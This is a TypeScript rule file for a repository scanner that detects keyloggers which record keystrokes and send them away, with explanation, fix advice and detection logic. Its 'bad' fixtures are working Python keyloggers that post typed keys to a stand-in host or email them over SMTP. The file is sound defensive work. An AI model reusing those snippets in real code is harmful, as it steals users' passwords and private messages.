import type { RepositoryCheck } from '../../check.ts';

export const check: RepositoryCheck = {
  id: 'data-handling-keylogger',
  title: 'Records every key and hands the record to somebody else',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The program hears every key that is pressed on the machine, whatever it is meant for, keeps them one after the other, and
    sends the record away. Passwords and private messages are in it.`,
  fix: `
    Remove it, and change every password that was typed while it ran. A program that needs shortcuts asks for those keys and
    keeps none.`,
  blindSpots: `
    The keys are followed by the look of the code. Where one file records and another sends, both must lie in one folder, or
    in one right below it.`,
  over: 'repository',
  examples: {
    bad: [
      {
        'log.py': `
          import requests
          from pynput import keyboard
          typed = ''

          def on_press(key):
              global typed
              typed += str(key)
              if len(typed) > 200:
                  requests.post('https://c.acme.net/in', data=typed)
                  typed = ''

          with keyboard.«Listener(on_press=»on_press) as listener:
              listener.join()`,
      },
      {
        'main.py': 'import keys, letters\nkeys.start()\nletters.start()\n',
        'keys.py': `
          from pynput import keyboard
          def on_press(key):
              with open('keys.txt', 'a') as file:
                  file.write(str(key))

          def start():
              keyboard.«Listener(on_press=»on_press).start()`,
        'letters.py': `
          import smtplib
          def start():
              server = smtplib.SMTP('smtp.acme.net', 587)
              server.sendmail(SENDER, RECEIVER, open('keys.txt').read())`,
      },
    ],
    good: [
      {
        'shortcuts.py': `
          import requests
          from pynput import keyboard
          held = []

          def on_press(key):
              held.append(key)
              if held == SHORTCUT:
                  requests.post('https://api.acme.io/start')

          def on_release(key):
              held.remove(key)

          keyboard.Listener(on_press=on_press, on_release=on_release).start()`,
      },
      {
        'drive.py': `
          from pynput import keyboard
          def on_press(key):
              robot.send(key.char)
          keyboard.Listener(on_press=on_press).start()`,
      },
      {
        'macro.py': `
          from pynput import keyboard
          events = []
          def on_press(key):
              events.append(key)
          keyboard.Listener(on_press=on_press).start()`,
        'site/letters/feedback.py': "import smtplib\nserver = smtplib.SMTP('smtp.acme.net')\n",
      },
    ],
  },

  *find(repository) {
    const notes = repository.notesOf('recording');
    for (const { does, at } of notes) {
      if (does === 'sends') yield { at, message: 'Every key that is pressed is recorded and sent away.' };
      if (does !== 'keeps') continue;
      const sender = notes.find((other) => other.does === 'hands over' && isBeside(at.file, other.at.file));
      if (sender === undefined) continue;
      yield {
        at,
        message: `Every key that is pressed is recorded, and ${sender.at.file} of the same program sends things away.`,
        trace: [{ at: sender.at, note: 'hands over what is collected' }],
        confidence: sender.at.file === at.file ? 'medium' : 'high',
      };
    }
  },
};

/** In one folder, or one of them in a folder right below that of the other. */
function isBeside(one: string, other: string): boolean {
  const [upper = [], lower = []] = [one, other].map(folders).toSorted((a, b) => a.length - b.length);
  return lower.length - upper.length <= 1 && upper.every((folder, place) => folder === lower[place]);
}

function folders(path: string): readonly string[] {
  return path.split('/').slice(0, -1);
}
